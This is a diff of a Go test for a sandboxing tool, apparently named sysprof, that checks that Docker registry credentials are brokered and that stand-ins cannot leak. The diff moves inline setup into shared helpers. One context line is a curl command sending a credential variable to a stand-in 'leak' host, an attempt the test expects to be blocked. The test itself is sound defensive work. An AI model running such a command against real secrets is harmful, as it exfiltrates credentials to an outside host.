@@ -16,36 +16,6 @@ import (
 	"github.com/sysprof/sysprof/internal/testutil"
 )
 
-const dockerProfile = `apiVersion: sysprof.dev/v1
-kind: Profile
-metadata: {name: registry-client, command: [python3], runs: 1, incomplete: false}
-syscalls:
-  architectures: [x86_64]
-  allow: [%s]
-filesystem:
-  read:
-    - {path: /etc}
-    - {path: /usr}
-    - {path: /proc}
-    - {path: /dev/urandom}
-    - {path: $WORKDIR}
-  write:
-    - {path: /dev/null}
-    - {path: $WORKDIR}
-  exec:
-    - {path: /usr/bin}
-    - {path: /usr/lib}
-  privateTmp: true
-network:
-  connect:
-    - {endpoint: "registry.test:443", proto: tcp}
-    - {endpoint: "token.test:443", proto: tcp}
-    - {endpoint: "other.test:80", proto: tcp}
-credentials:
-  - {file: $HOME/.docker/config.json, key: auths.registry.test.auth, hosts: [registry.test], how: basic}
-  - {file: $HOME/.docker/config.json, key: auths.token.test.identitytoken, hosts: [token.test], how: bearer}
-`
-
 // dockerClient does what a registry client does with ~/.docker/config.json: the auth of
 // registry.test as Basic, the identitytoken of token.test as Bearer, to their /v2/ APIs.
 const dockerClient = `import base64, json, os, urllib.request
@@ -73,17 +43,7 @@ curl -sS -m 10 -o /dev/null -u "me:$S" http://other.test/leak 2>/dev/null; echo 
 // other as Bearer. Inside, config.json holds stand-ins only; the registries get the real
 // values; the canary finds no trace of them; the stand-in sent elsewhere is refused.
 func TestCredentialsDockerBrokered(t *testing.T) {
-	testutil.RequireRoot(t)
-	testutil.RequireTool(t, "curl")
-	testutil.RequireTool(t, "ip")
-	testutil.RequireTool(t, "python3")
-	bin, err := sysprofBinary()
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := inOwnNetns(func() error { return dockerInNetns(bin) }); err != nil {
-		testutil.RequireNoErr(t, "docker credentials run", err)
-	}
+	brokeredRun(t, "docker credentials run", dockerInNetns, "curl", "python3")
 }
 
 func dockerInNetns(bin string) error {
@@ -142,7 +102,10 @@ func dockerInNetns(bin string) error {
 }, "credsStore": "desktop"}
 `), 0o600)
 	os.WriteFile(filepath.Join(work, "client.py"), []byte(dockerClient), 0o644)
-	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(fmt.Sprintf(dockerProfile, allSyscalls())), 0o644)
+	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: registry-client, command: [python3], runs: 1, incomplete: false}", "",
+		[]string{"registry.test:443", "token.test:443", "other.test:80"},
+		[]string{"{file: $HOME/.docker/config.json, key: auths.registry.test.auth, hosts: [registry.test], how: basic}",
+			"{file: $HOME/.docker/config.json, key: auths.token.test.identitytoken, hosts: [token.test], how: bearer}"})), 0o644)
 	repFile := filepath.Join(base, "rep.json")
 	needles := pass[4:20] + "\n" + token[4:20] // grep -F: either
 	cmd := exec.Command(bin, "enforce", "-p", "prof.yaml", "--report", repFile, "--resolve", "registry.test="+regAddr,
